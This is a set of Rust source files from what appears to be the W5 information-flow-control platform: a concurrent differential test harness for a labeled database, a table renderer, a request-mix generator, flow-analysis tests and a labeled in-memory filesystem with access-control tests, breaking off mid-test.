                    fold(h, b"|");
                }
                fold(h, label_sig(&row.labels).as_bytes());
                fold(h, b";");
            }
        }
        Err(e) => {
            fold(h, b"err");
            fold(h, &[err_code(e)]);
        }
    }
}

fn apply_ops(db: &Database, ctx: &ThreadCtx, ops: &[Op]) -> (u64, u64) {
    let mut h = FNV_OFFSET;
    let mut scanned = 0u64;
    let t = &ctx.table;
    for (i, op) in ops.iter().enumerate() {
        let public = LabelPair::public();
        let (subj, mode, labels, sql) = match op {
            Op::Insert { kind, id, v } => (
                &ctx.owner,
                QueryMode::Filtered,
                ctx.insert_label(*kind),
                format!("INSERT INTO {t} VALUES ({id}, {v}, 'r{id}')"),
            ),
            Op::PointSelect { stranger, id } => (
                if *stranger { &ctx.stranger } else { &ctx.owner },
                QueryMode::Filtered,
                public,
                format!("SELECT id, v, s FROM {t} WHERE id = {id}"),
            ),
            Op::RangeSelect { stranger, lo, span } => (
                if *stranger { &ctx.stranger } else { &ctx.owner },
                QueryMode::Filtered,
                public,
                format!(
                    "SELECT id, v FROM {t} WHERE v >= {lo} AND v < {} ORDER BY id",
                    lo + span
                ),
            ),
            Op::Agg { stranger } => (
                if *stranger { &ctx.stranger } else { &ctx.owner },
                QueryMode::Filtered,
                public,
                format!("SELECT COUNT(*), SUM(v), MIN(v), MAX(id) FROM {t}"),
            ),
            Op::OrderLimit { stranger, limit } => (
                if *stranger { &ctx.stranger } else { &ctx.owner },
                QueryMode::Filtered,
                public,
                format!("SELECT id, v FROM {t} ORDER BY v DESC LIMIT {limit}"),
            ),
            Op::Update { id, v } => (
                &ctx.owner,
                QueryMode::Filtered,
                public,
                format!("UPDATE {t} SET v = {v} WHERE id = {id}"),
            ),
            Op::Shift { id } => (
                &ctx.owner,
                QueryMode::Filtered,
                public,
                format!("UPDATE {t} SET id = id + {ID_DOMAIN} WHERE id = {id}"),
            ),
            Op::StrangerUpdate { v } => (
                &ctx.stranger,
                QueryMode::Filtered,
                public,
                format!("UPDATE {t} SET s = 'x' WHERE v >= {v}"),
            ),
            Op::Delete { id } => (
                &ctx.owner,
                QueryMode::Filtered,
                public,
                format!("DELETE FROM {t} WHERE id = {id}"),
            ),
            Op::NaiveScan => (
                &ctx.stranger,
                QueryMode::Naive,
                public,
                format!("SELECT id, v, s FROM {t} ORDER BY id LIMIT 20"),
            ),
            Op::CreateIndex { col } => (
                &ctx.owner,
                QueryMode::Filtered,
                public,
                format!(
                    "CREATE INDEX ON {t} ({})",
                    if *col == 0 { "id" } else { "v" }
                ),
            ),
        };
        let r = db.execute(subj, mode, QueryCost::unlimited(), &labels, &sql);
        if let Ok(out) = &r {
            scanned += out.scanned;
        }
        fold_result(&mut h, i, &r);
    }
    (h, scanned)
}

/// Trusted full dump of one table (Naive mode sees every row), rendered
/// and sorted so row order cannot leak into the comparison.
fn dump(db: &Database, table: &str) -> Vec<String> {
    let out = db
        .execute(
            &Subject::anonymous(),
            QueryMode::Naive,
            QueryCost::unlimited(),
            &LabelPair::public(),
            &format!("SELECT * FROM {table}"),
        )
        .expect("dump never fails");
    let mut rows: Vec<String> = out
        .rows
        .iter()
        .map(|r| format!("{:?} @ {}", r.values, label_sig(&r.labels)))
        .collect();
    rows.sort();
    rows
}

/// Drive one database through the spec's schedule. `concurrent` selects
/// real OS threads vs. a serial replay of the same per-thread sequences.
fn run_arm(db: &Database, spec: &StoreSpec, concurrent: bool) -> StoreRun {
    assert!(spec.threads >= 1, "need at least one thread");
    let ledger = Arc::new(Ledger::new());
    let _obs_guard = w5_obs::scoped(Arc::clone(&ledger));
    // Order graph for this arm: partition-lock acquisitions (and anything
    // they nest, e.g. intern-table reads) are recorded and gated below.
    let recorder = crate::lockgate::recorder(None);
    let _lock_guard = lockdep::scoped(Arc::clone(&recorder));

    let ctxs = setup(db, spec);
    let op_lists: Vec<Vec<Op>> = (0..spec.threads).map(|t| gen_ops(spec, t)).collect();
    let injectors: Vec<Arc<w5_chaos::Injector>> =
        (0..spec.threads).map(|t| injector_for(spec, t)).collect();

    let results: Vec<(u64, u64, w5_chaos::ChaosReport)> = if concurrent {
        // Scoped ledgers are thread-local: capture this run's ledger and
        // re-install it inside every worker so their flow checks record
        // here, not into the process-global ledger.
        let handoff = w5_obs::current_scoped().expect("scoped ledger installed above");
        let lock_handoff = lockdep::current_scoped().expect("scoped recorder installed above");
        thread::scope(|s| {
            let handles: Vec<_> = ctxs
                .iter()
                .zip(op_lists.iter())
                .zip(injectors.iter())
                .map(|((ctx, ops), inj)| {
                    let handoff = Arc::clone(&handoff);
                    let lock_handoff = Arc::clone(&lock_handoff);
                    let inj = Arc::clone(inj);
                    s.spawn(move || {
                        let _obs = w5_obs::scoped(handoff);
                        let _lockdep = lockdep::scoped(lock_handoff);
                        let _chaos = w5_chaos::with_injector(Arc::clone(&inj));
                        let (digest, scanned) = apply_ops(db, ctx, ops);
                        (digest, scanned, inj.report())
                    })
                })
                .collect();
            handles
                .into_iter()
                .map(|h| h.join().expect("worker thread panicked"))
                .collect()
        })
    } else {
        ctxs.iter()
            .zip(op_lists.iter())
            .zip(injectors.iter())
            .map(|((ctx, ops), inj)| {
                // Fresh injector scope per thread segment: the fault
                // stream each sequence sees matches what its dedicated
                // thread saw in the concurrent run.
                let _chaos = w5_chaos::with_injector(Arc::clone(inj));
                let (digest, scanned) = apply_ops(db, ctx, ops);
                (digest, scanned, inj.report())
            })
            .collect()
    };

    let tables: BTreeMap<String, Vec<String>> =
        ctxs.iter().map(|ctx| (ctx.table.clone(), dump(db, &ctx.table))).collect();
    let scanned = results.iter().map(|r| r.1).sum();
    recorder.note("harness", "storediff");
    recorder.note("executor", db.executor_name());
    recorder.note("rows_scanned", &u64::to_string(&scanned));
    crate::lockgate::enforce(&recorder, "storediff");
    StoreRun {
        outcome: StoreOutcome {
            digests: results.iter().map(|r| r.0).collect(),
            tables,
            faults: results.into_iter().map(|r| r.2).collect(),
        },
        scanned,
        ledger_digest: ledger.digest(),
    }
}

/// Partitioned executor, serial replay.
pub fn run_partitioned_serial(spec: &StoreSpec) -> StoreRun {
    run_arm(&Database::new(), spec, false)
}

/// Reference executor, serial replay.
pub fn run_reference_serial(spec: &StoreSpec) -> StoreRun {
    run_arm(&Database::reference(), spec, false)
}

/// Partitioned executor under real thread interleavings.
pub fn run_partitioned_concurrent(spec: &StoreSpec) -> StoreRun {
    run_arm(&Database::new(), spec, true)
}

/// Reference executor under real thread interleavings (the trivially
/// correct baseline).
pub fn run_reference_concurrent(spec: &StoreSpec) -> StoreRun {
    run_arm(&Database::reference(), spec, true)
}

/// The full four-arm differential check, used by tests and CI:
/// partitioned concurrent ≡ reference concurrent ≡ reference serial ≡
/// partitioned serial on the whole observable surface, with the
/// partitioned engine charging no more than the reference, and serial
/// ledger digests stable under replay. Panics with a labeled diff on the
/// first mismatch.
pub fn assert_store_differential(spec: &StoreSpec) {
    let ref_serial = run_reference_serial(spec);
    let part_serial = run_partitioned_serial(spec);
    assert_eq!(
        ref_serial.outcome, part_serial.outcome,
        "serial replay diverged between reference and partitioned executors"
    );
    assert!(
        part_serial.scanned <= ref_serial.scanned,
        "partition pruning charged more ({}) than the reference scan ({})",
        part_serial.scanned,
        ref_serial.scanned,
    );
    // Replay determinism: the same executor must emit a bit-identical
    // private event stream on a second serial run.
    let ref_again = run_reference_serial(spec);
    assert_eq!(
        ref_serial.ledger_digest, ref_again.ledger_digest,
        "reference serial ledger digest is not replay-deterministic"
    );
    let part_again = run_partitioned_serial(spec);
    assert_eq!(
        part_serial.ledger_digest, part_again.ledger_digest,
        "partitioned serial ledger digest is not replay-deterministic"
    );
    let part_conc = run_partitioned_concurrent(spec);
    assert_eq!(
        ref_serial.outcome, part_conc.outcome,
        "partitioned executor under threads diverged from the serial oracle"
    );
    assert_eq!(
        part_serial.scanned, part_conc.scanned,
        "partitioned scan cost is interleaving-dependent"
    );
    let ref_conc = run_reference_concurrent(spec);
    assert_eq!(
        ref_serial.outcome, ref_conc.outcome,
        "reference executor under threads diverged from its own serial replay \
         (schedule is not interleaving-invariant — harness bug)"
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn four_arms_agree_on_default_spec() {
        assert_store_differential(&StoreSpec {
            seed: 2007,
            threads: 4,
            ops_per_thread: 150,
            fault_rate: 0.05,
        });
    }

    #[test]
    fn calm_run_agrees_without_faults() {
        let spec = StoreSpec { seed: 11, threads: 2, ops_per_thread: 120, fault_rate: 0.0 };
        assert_store_differential(&spec);
        let out = run_partitioned_serial(&spec);
        assert_eq!(
            out.outcome.faults.iter().map(|f| f.total_injected()).sum::<u64>(),
            0
        );
    }

    #[test]
    fn workload_actually_exercises_the_store() {
        let spec = StoreSpec::new(20070824);
        let run = run_partitioned_serial(&spec);
        assert!(
            run.outcome.tables.values().any(|rows| !rows.is_empty()),
            "tables must end non-empty"
        );
        assert!(
            run.outcome.faults.iter().map(|f| f.total_injected()).sum::<u64>() > 0,
            "storm must fire"
        );
        // Pruning must actually pay off on this schedule, not merely tie.
        let reference = run_reference_serial(&spec);
        assert!(
            run.scanned < reference.scanned,
            "partitioned run should visit fewer rows ({} vs {})",
            run.scanned,
            reference.scanned,
        );
    }
}
