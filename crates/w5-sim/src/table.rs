//! Plain-text tables for experiment reports.

/// A simple column-aligned table.
#[derive(Clone, Debug, Default)]
pub struct Table {
    headers: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// A table with the given headers.
    pub fn new<I: IntoIterator<Item = S>, S: Into<String>>(headers: I) -> Table {
        Table { headers: headers.into_iter().map(Into::into).collect(), rows: Vec::new() }
    }

    /// Append a row (padded/truncated to the header count).
    pub fn row<I: IntoIterator<Item = S>, S: Into<String>>(&mut self, cells: I) -> &mut Table {
        let mut row: Vec<String> = cells.into_iter().map(Into::into).collect();
        row.resize(self.headers.len(), String::new());
        self.rows.push(row);
        self
    }

    /// Number of data rows.
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// True if there are no data rows.
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }

    /// Render with aligned columns.
    pub fn render(&self) -> String {
        let cols = self.headers.len();
        let mut widths: Vec<usize> = self.headers.iter().map(String::len).collect();
        for row in &self.rows {
            for (i, cell) in row.iter().enumerate().take(cols) {
                widths[i] = widths[i].max(cell.len());
            }
        }
        let mut out = String::new();
        let fmt_row = |cells: &[String], widths: &[usize]| -> String {
            let mut line = String::new();
            for (i, cell) in cells.iter().enumerate() {
                if i > 0 {
                    line.push_str("  ");
                }
                line.push_str(cell);
                line.push_str(&" ".repeat(widths[i].saturating_sub(cell.len())));
            }
            line.trim_end().to_string()
        };
        out.push_str(&fmt_row(&self.headers, &widths));
        out.push('\n');
        out.push_str(&"-".repeat(widths.iter().sum::<usize>() + 2 * (cols.saturating_sub(1))));
        out.push('\n');
        for row in &self.rows {
            out.push_str(&fmt_row(row, &widths));
            out.push('\n');
        }
        out
    }
}

impl std::fmt::Display for Table {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn renders_aligned() {
        let mut t = Table::new(["name", "value"]);
        t.row(["short", "1"]);
        t.row(["a-much-longer-name", "22"]);
        let s = t.render();
        let lines: Vec<&str> = s.lines().collect();
        assert_eq!(lines.len(), 4);
        assert!(lines[0].starts_with("name"));
        // The value column starts at the same offset in every row.
        let off = lines[2].find('1').unwrap();
        assert_eq!(&lines[3][off..off + 2], "22");
    }

    #[test]
    fn rows_padded_to_headers() {
        let mut t = Table::new(["a", "b", "c"]);
        t.row(["only-one"]);
        assert_eq!(t.len(), 1);
        assert!(!t.is_empty());
        assert!(t.render().contains("only-one"));
    }
}
