//! Weighted request mixes for the end-to-end experiments.

use crate::population::World;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};

/// One generated request (decomposed; the harness builds the platform or
//  HTTP request from it).
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct GenRequest {
    /// Index of the acting user.
    pub viewer: usize,
    /// Application key.
    pub app: String,
    /// HTTP method.
    pub method: &'static str,
    /// App action.
    pub action: &'static str,
    /// Parameters.
    pub params: Vec<(String, String)>,
}

/// Mix weights (relative).
#[derive(Clone, Copy, Debug)]
pub struct MixWeights {
    /// View one of a friend's photos.
    pub view_photo: u32,
    /// List one's own photos.
    pub list_photos: u32,
    /// Read a friend's blog.
    pub list_blog: u32,
    /// Write a blog post.
    pub write_post: u32,
    /// Render the social feed.
    pub feed: u32,
}

impl Default for MixWeights {
    fn default() -> Self {
        // A read-heavy web mix.
        MixWeights { view_photo: 40, list_photos: 20, list_blog: 25, write_post: 5, feed: 10 }
    }
}

/// Generate a deterministic request stream over a built world.
pub fn generate(world: &World, weights: MixWeights, count: usize, seed: u64) -> Vec<GenRequest> {
    let mut rng = StdRng::seed_from_u64(seed);
    let n = world.accounts.len();
    let total = weights.view_photo + weights.list_photos + weights.list_blog + weights.write_post + weights.feed;
    assert!(total > 0 && n > 0);

    // Adjacency for friend picks.
    let mut friends: Vec<Vec<usize>> = vec![Vec::new(); n];
    for &(a, b) in &world.graph.edges {
        friends[a].push(b);
        friends[b].push(a);
    }

    let mut out = Vec::with_capacity(count);
    for _ in 0..count {
        let viewer = rng.gen_range(0..n);
        let friend = if friends[viewer].is_empty() {
            viewer
        } else {
            friends[viewer][rng.gen_range(0..friends[viewer].len())]
        };
        let friend_name = world.accounts[friend].username.clone();
        let my_name = world.accounts[viewer].username.clone();
        let roll = rng.gen_range(0..total);
        let req = if roll < weights.view_photo {
            GenRequest {
                viewer,
                app: "devA/photos".into(),
                method: "GET",
                action: "view",
                params: vec![("user".into(), friend_name), ("name".into(), "photo0".into())],
            }
        } else if roll < weights.view_photo + weights.list_photos {
            GenRequest {
                viewer,
                app: "devA/photos".into(),
                method: "GET",
                action: "list",
                params: vec![("user".into(), my_name)],
            }
        } else if roll < weights.view_photo + weights.list_photos + weights.list_blog {
            GenRequest {
                viewer,
                app: "devB/blog".into(),
                method: "GET",
                action: "list",
                params: vec![("user".into(), friend_name)],
            }
        } else if roll < total - weights.feed {
            GenRequest {
                viewer,
                app: "devB/blog".into(),
                method: "POST",
                action: "post",
                params: vec![
                    ("title".into(), format!("t{}", rng.gen_range(0..1_000_000))),
                    ("body".into(), "generated body text".into()),
                ],
            }
        } else {
            GenRequest {
                viewer,
                app: "devC/social".into(),
                method: "GET",
                action: "feed",
                params: vec![],
            }
        };
        out.push(req);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::population::{build_population, PopulationConfig};
    use w5_platform::Platform;

    #[test]
    fn mix_respects_weights_roughly() {
        let world = build_population(
            Platform::new_default("wl"),
            PopulationConfig { users: 10, ..Default::default() },
        );
        let reqs = generate(&world, MixWeights::default(), 2000, 7);
        assert_eq!(reqs.len(), 2000);
        let views = reqs.iter().filter(|r| r.action == "view").count();
        let posts = reqs.iter().filter(|r| r.action == "post").count();
        // 40% vs 5% with slack.
        assert!((600..1000).contains(&views), "{views}");
        assert!((40..180).contains(&posts), "{posts}");
    }

    #[test]
    fn deterministic_per_seed() {
        let world = build_population(
            Platform::new_default("wl2"),
            PopulationConfig { users: 8, ..Default::default() },
        );
        let a = generate(&world, MixWeights::default(), 100, 1);
        let b = generate(&world, MixWeights::default(), 100, 1);
        assert_eq!(a, b);
    }
}
