//! Static-vs-runtime differential: the w5-analyze flow graph must agree
//! with the live perimeter on every probe, across randomized
//! configurations. See `w5_sim::differential` for the harness.

use proptest::prelude::*;
use w5_sim::{run_differential, DiffSpec};

/// Deterministic floor: 5 seeds × 40 probes = 200 probe comparisons,
/// independent of the `PROPTEST_CASES` environment.
#[test]
fn fixed_seeds_zero_disagreements() {
    let mut total_static = 0;
    let mut total_runtime = 0;
    for seed in 0..5u64 {
        let out = run_differential(&DiffSpec { seed, probes: 40 });
        assert!(
            out.disagreements.is_empty(),
            "seed {seed}: static/runtime split: {:#?}",
            out.disagreements
        );
        total_static += out.static_allows;
        total_runtime += out.runtime_allows;
    }
    // Sanity: the corpus must exercise both outcomes, or the comparison
    // proves nothing.
    assert!(total_static > 0, "no probe was ever allowed — corpus is degenerate");
    assert_eq!(total_static, total_runtime);
    assert!(total_static < 200, "every probe allowed — corpus is degenerate");
}

/// Determinism: same spec, same outcome (the harness is a pure function
/// of the seed, which is what makes any future disagreement replayable).
#[test]
fn differential_is_deterministic() {
    let a = run_differential(&DiffSpec { seed: 7, probes: 30 });
    let b = run_differential(&DiffSpec { seed: 7, probes: 30 });
    assert_eq!(a, b);
}

proptest! {
    /// Property: for any seed, zero disagreements.
    #[test]
    fn static_and_runtime_agree(seed in 0u64..u64::MAX) {
        let out = run_differential(&DiffSpec { seed, probes: 25 });
        prop_assert!(
            out.disagreements.is_empty(),
            "seed {}: {:?}",
            seed,
            out.disagreements
        );
    }
}
