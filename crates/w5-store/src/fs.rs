//! The labeled filesystem.
//!
//! A flat-namespace-with-directories in-memory filesystem in which every
//! file carries a [`LabelPair`]. The paper's default policies map directly:
//! a photo uploaded by Bob is created at `S = {e_bob}`, `I = {w_bob}` —
//! any application may read it (and be tainted), none may overwrite it
//! without `w_bob+`, and nothing derived from it leaves the perimeter
//! without `e_bob-`.
//!
//! Paths are `/`-separated UTF-8, rooted at `/`. Directories are implicit
//! (created on demand) and carry no labels of their own; *listing* filters
//! out entries whose existence the subject could not learn by reading them,
//! closing the "ls as a covert channel" hole.

use crate::subject::Subject;
use bytes::Bytes;
use w5_sync::RwLock;
use std::collections::BTreeMap;
use std::fmt;
use w5_difc::LabelPair;

/// Ledger a store access. The event is labeled with the *file's* secrecy:
/// even a denied access leaks which file was probed, so only viewers
/// cleared for the file may see per-event records (denials of invisible
/// files must stay invisible — mirroring the `NotFound` masking below).
fn ledger_access(path: &str, bytes: u64, labels: &LabelPair, write: bool, allowed: bool) {
    let kind = if write {
        w5_obs::EventKind::StoreWrite { path: path.to_string(), bytes, allowed }
    } else {
        w5_obs::EventKind::StoreRead { path: path.to_string(), bytes, allowed }
    };
    w5_obs::record(&labels.secrecy.to_obs(), kind);
}

/// Filesystem errors.
///
/// Note the deliberate asymmetry: reads of files the subject cannot know
/// about return [`FsError::NotFound`], not a permission error — an
/// unreadable file must be indistinguishable from an absent one.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum FsError {
    /// No such file (or no file this subject may know about).
    NotFound,
    /// A file already exists at the path.
    AlreadyExists,
    /// The write/delete violates the file's labels.
    WriteDenied,
    /// The path is syntactically invalid.
    BadPath,
    /// The per-owner disk quota is exhausted.
    QuotaExceeded,
    /// The write was aborted by an injected fault (`w5-chaos`) before it
    /// committed. Atomicity guarantee: the previous contents, labels and
    /// version of the file are fully intact.
    Aborted,
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            FsError::NotFound => "no such file",
            FsError::AlreadyExists => "file already exists",
            FsError::WriteDenied => "write denied by label policy",
            FsError::BadPath => "invalid path",
            FsError::QuotaExceeded => "disk quota exceeded",
            FsError::Aborted => "write aborted before commit",
        };
        f.write_str(s)
    }
}

impl std::error::Error for FsError {}

/// Metadata for a file, as visible to a subject that may read it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FileMeta {
    /// Absolute path.
    pub path: String,
    /// Size in bytes.
    pub size: usize,
    /// The file's labels.
    pub labels: LabelPair,
    /// Monotonic version, bumped on every write.
    pub version: u64,
}

#[derive(Clone, Debug)]
struct FileEntry {
    data: Bytes,
    labels: LabelPair,
    version: u64,
}

/// A labeled in-memory filesystem. Cheap to clone (shared state).
#[derive(Clone)]
pub struct LabeledFs {
    inner: std::sync::Arc<RwLock<BTreeMap<String, FileEntry>>>,
    /// Total bytes allowed across the filesystem; `usize::MAX` = unlimited.
    capacity: usize,
}

fn validate(path: &str) -> Result<(), FsError> {
    if !path.starts_with('/') || path.ends_with('/') || path.contains("//") || path.contains('\0')
    {
        return Err(FsError::BadPath);
    }
    if path.split('/').any(|seg| seg == "." || seg == "..") {
        return Err(FsError::BadPath);
    }
    Ok(())
}

impl Default for LabeledFs {
    fn default() -> LabeledFs {
        LabeledFs::new()
    }
}

impl LabeledFs {
    /// An empty filesystem with unlimited capacity.
    pub fn new() -> LabeledFs {
        LabeledFs::with_capacity(usize::MAX)
    }

    /// An empty filesystem that refuses writes beyond `capacity` total bytes.
    pub fn with_capacity(capacity: usize) -> LabeledFs {
        LabeledFs {
            inner: std::sync::Arc::new(RwLock::new("store.fs", BTreeMap::new())),
            capacity,
        }
    }

    /// Create a file. Fails if it exists. The file's labels are chosen by
    /// the caller but must be *writable* by the subject: the subject's
    /// secrecy must be absorbed and its integrity claims honest.
    pub fn create(
        &self,
        subject: &Subject,
        path: &str,
        labels: LabelPair,
        data: Bytes,
    ) -> Result<(), FsError> {
        validate(path)?;
        if !subject.may_write(&labels) {
            ledger_access(path, data.len() as u64, &labels, true, false);
            return Err(FsError::WriteDenied);
        }
        let mut inner = self.inner.write();
        if inner.contains_key(path) {
            return Err(FsError::AlreadyExists);
        }
        let used: usize = inner.values().map(|f| f.data.len()).sum();
        if used.saturating_add(data.len()) > self.capacity {
            return Err(FsError::QuotaExceeded);
        }
        // Last fault point before commit: an aborted create leaves no file
        // behind (all-or-nothing — there is no partially created entry).
        if w5_chaos::inject(w5_chaos::Site::FsWrite).is_some() {
            return Err(FsError::Aborted);
        }
        let bytes = data.len() as u64;
        inner.insert(path.to_string(), FileEntry { data, labels: labels.clone(), version: 1 });
        drop(inner);
        ledger_access(path, bytes, &labels, true, true);
        Ok(())
    }

    /// Read a file. Returns its bytes and labels so the platform can taint
    /// the reading process. A file the subject could never read reports
    /// [`FsError::NotFound`].
    pub fn read(&self, subject: &Subject, path: &str) -> Result<(Bytes, LabelPair), FsError> {
        validate(path)?;
        let inner = self.inner.read();
        let f = inner.get(path).ok_or(FsError::NotFound)?;
        if !subject.may_read(&f.labels) {
            let labels = f.labels.clone();
            drop(inner);
            ledger_access(path, 0, &labels, false, false);
            return Err(FsError::NotFound);
        }
        let (data, labels) = (f.data.clone(), f.labels.clone());
        drop(inner);
        ledger_access(path, data.len() as u64, &labels, false, true);
        Ok((data, labels))
    }

    /// Stat a file the subject may read.
    pub fn stat(&self, subject: &Subject, path: &str) -> Result<FileMeta, FsError> {
        validate(path)?;
        let inner = self.inner.read();
        let f = inner.get(path).ok_or(FsError::NotFound)?;
        if !subject.may_read(&f.labels) {
            return Err(FsError::NotFound);
        }
        Ok(FileMeta {
            path: path.to_string(),
            size: f.data.len(),
            labels: f.labels.clone(),
            version: f.version,
        })
    }

    /// Overwrite a file's contents, keeping its labels. Requires write
    /// admissibility against the *existing* labels.
    pub fn write(&self, subject: &Subject, path: &str, data: Bytes) -> Result<(), FsError> {
        validate(path)?;
        let mut inner = self.inner.write();
        // Quota check against the delta.
        let used: usize = inner.values().map(|f| f.data.len()).sum();
        let f = inner.get_mut(path).ok_or(FsError::NotFound)?;
        if !subject.may_read(&f.labels) {
            // Invisible file: same error as absence.
            return Err(FsError::NotFound);
        }
        if !subject.may_write(&f.labels) {
            let labels = f.labels.clone();
            drop(inner);
            ledger_access(path, data.len() as u64, &labels, true, false);
            return Err(FsError::WriteDenied);
        }
        if used - f.data.len() + data.len() > self.capacity {
            return Err(FsError::QuotaExceeded);
        }
        // Overwrites are staged-then-committed: every check has passed, and
        // the swap below is the single atomic commit point. An injected
        // fault here models a torn write — the old data, labels and version
        // must survive untouched.
        if w5_chaos::inject(w5_chaos::Site::FsWrite).is_some() {
            return Err(FsError::Aborted);
        }
        let labels = f.labels.clone();
        let bytes = data.len() as u64;
        f.data = data;
        f.version += 1;
        drop(inner);
        ledger_access(path, bytes, &labels, true, true);
        Ok(())
    }

    /// Delete a file. Deletion is a write.
    pub fn delete(&self, subject: &Subject, path: &str) -> Result<(), FsError> {
        validate(path)?;
        let mut inner = self.inner.write();
        let f = inner.get(path).ok_or(FsError::NotFound)?;
        if !subject.may_read(&f.labels) {
            return Err(FsError::NotFound);
        }
        if !subject.may_write(&f.labels) {
            let labels = f.labels.clone();
            drop(inner);
            ledger_access(path, 0, &labels, true, false);
            return Err(FsError::WriteDenied);
        }
        let labels = f.labels.clone();
        inner.remove(path);
        drop(inner);
        ledger_access(path, 0, &labels, true, true);
        Ok(())
    }

    /// List files under a directory prefix (non-recursive), filtered to
    /// entries the subject could read. `dir` is `/`-terminated logically;
    /// pass `"/photos/bob"` to list that directory.
    pub fn list(&self, subject: &Subject, dir: &str) -> Result<Vec<FileMeta>, FsError> {
        if dir != "/" {
            validate(dir)?;
        }
        let prefix = if dir == "/" { "/".to_string() } else { format!("{dir}/") };
        let inner = self.inner.read();
        Ok(inner
            .range(prefix.clone()..)
            .take_while(|(p, _)| p.starts_with(&prefix))
            .filter(|(p, _)| !p[prefix.len()..].contains('/'))
            .filter(|(_, f)| subject.may_read(&f.labels))
            .map(|(p, f)| FileMeta {
                path: p.clone(),
                size: f.data.len(),
                labels: f.labels.clone(),
                version: f.version,
            })
            .collect())
    }

    /// Recursive listing under a prefix, with the same visibility filter.
    pub fn list_recursive(&self, subject: &Subject, dir: &str) -> Result<Vec<FileMeta>, FsError> {
        if dir != "/" {
            validate(dir)?;
        }
        let prefix = if dir == "/" { "/".to_string() } else { format!("{dir}/") };
        let inner = self.inner.read();
        Ok(inner
            .range(prefix.clone()..)
            .take_while(|(p, _)| p.starts_with(&prefix))
            .filter(|(_, f)| subject.may_read(&f.labels))
            .map(|(p, f)| FileMeta {
                path: p.clone(),
                size: f.data.len(),
                labels: f.labels.clone(),
                version: f.version,
            })
            .collect())
    }

    /// Total bytes stored (trusted accounting use).
    pub fn bytes_used(&self) -> usize {
        self.inner.read().values().map(|f| f.data.len()).sum()
    }

    /// Total number of files (trusted accounting use).
    pub fn file_count(&self) -> usize {
        self.inner.read().len()
    }

    /// Census of file labels: the distinct label pairs in use with their
    /// file counts, sorted deterministically. Trusted accounting for
    /// configuration audits (`w5-analyze`); reveals labels, never contents
    /// or paths.
    pub fn label_census(&self) -> Vec<(LabelPair, usize)> {
        let inner = self.inner.read();
        let mut counts: std::collections::HashMap<LabelPair, usize> = Default::default();
        for f in inner.values() {
            *counts.entry(f.labels.clone()).or_insert(0) += 1;
        }
        let mut entries: Vec<(LabelPair, usize)> = counts.into_iter().collect();
        entries.sort_by(|a, b| {
            (a.0.secrecy.as_slice(), a.0.integrity.as_slice())
                .cmp(&(b.0.secrecy.as_slice(), b.0.integrity.as_slice()))
        });
        entries
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use w5_difc::{CapSet, Label, TagKind, TagRegistry};

    struct World {
        reg: Arc<TagRegistry>,
        fs: LabeledFs,
        bob: Subject,
        bob_data: LabelPair,
        app: Subject,
    }

    fn world() -> World {
        let reg = Arc::new(TagRegistry::new());
        let (e, e_caps) = reg.create_tag(TagKind::ExportProtect, "export:bob");
        let (w, w_caps) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        let mut bob_caps = e_caps;
        bob_caps.extend(&w_caps);
        let bob = Subject::new(
            LabelPair::new(Label::empty(), Label::singleton(w)),
            reg.effective(&bob_caps),
        );
        let app = Subject::new(LabelPair::public(), reg.effective(&CapSet::empty()));
        let bob_data = LabelPair::new(Label::singleton(e), Label::singleton(w));
        World { reg, fs: LabeledFs::new(), bob, bob_data, app }
    }

    #[test]
    fn create_read_roundtrip() {
        let w = world();
        w.fs.create(&w.bob, "/photos/bob/cat.jpg", w.bob_data.clone(), Bytes::from_static(b"JPEG"))
            .unwrap();
        let (data, labels) = w.fs.read(&w.bob, "/photos/bob/cat.jpg").unwrap();
        assert_eq!(&data[..], b"JPEG");
        assert_eq!(labels, w.bob_data);
        assert_eq!(w.fs.file_count(), 1);
        assert_eq!(w.fs.bytes_used(), 4);
    }

    #[test]
    fn app_may_read_but_not_overwrite_bobs_file() {
        let w = world();
        w.fs.create(&w.bob, "/photos/bob/cat.jpg", w.bob_data.clone(), Bytes::from_static(b"JPEG"))
            .unwrap();
        // Reading succeeds (export protection allows tainted reads).
        assert!(w.fs.read(&w.app, "/photos/bob/cat.jpg").is_ok());
        // Writing fails: the app cannot vouch w_bob.
        assert_eq!(
            w.fs.write(&w.app, "/photos/bob/cat.jpg", Bytes::from_static(b"DEFACED")),
            Err(FsError::WriteDenied)
        );
        // Deleting fails the same way (vandalism/deletion, paper §3).
        assert_eq!(w.fs.delete(&w.app, "/photos/bob/cat.jpg"), Err(FsError::WriteDenied));
        // The owner can do both.
        assert!(w.fs.write(&w.bob, "/photos/bob/cat.jpg", Bytes::from_static(b"v2")).is_ok());
        assert_eq!(w.fs.stat(&w.bob, "/photos/bob/cat.jpg").unwrap().version, 2);
        assert!(w.fs.delete(&w.bob, "/photos/bob/cat.jpg").is_ok());
    }

    #[test]
    fn tainted_app_cannot_create_public_files() {
        let w = world();
        // The app has read Bob's data: its secrecy label now carries e_bob.
        let e = w.reg.find_by_name("export:bob").unwrap();
        let tainted = Subject::new(
            LabelPair::new(Label::singleton(e), Label::empty()),
            w.app.caps.clone(),
        );
        // It may not launder into a public file…
        assert!(!tainted.may_write(&LabelPair::public()));
        assert_eq!(
            w.fs.create(&tainted, "/public/loot.bin", LabelPair::public(), Bytes::from_static(b"x")),
            Err(FsError::WriteDenied)
        );
        // …but may stash derived data at Bob's secrecy.
        let derived = LabelPair::new(Label::singleton(e), Label::empty());
        assert!(w.fs.create(&tainted, "/cache/derived.bin", derived, Bytes::from_static(b"x")).is_ok());
    }

    #[test]
    fn invisible_files_look_absent() {
        let reg = Arc::new(TagRegistry::new());
        let (r, owner_caps) = reg.create_tag(TagKind::ReadProtect, "read:alice");
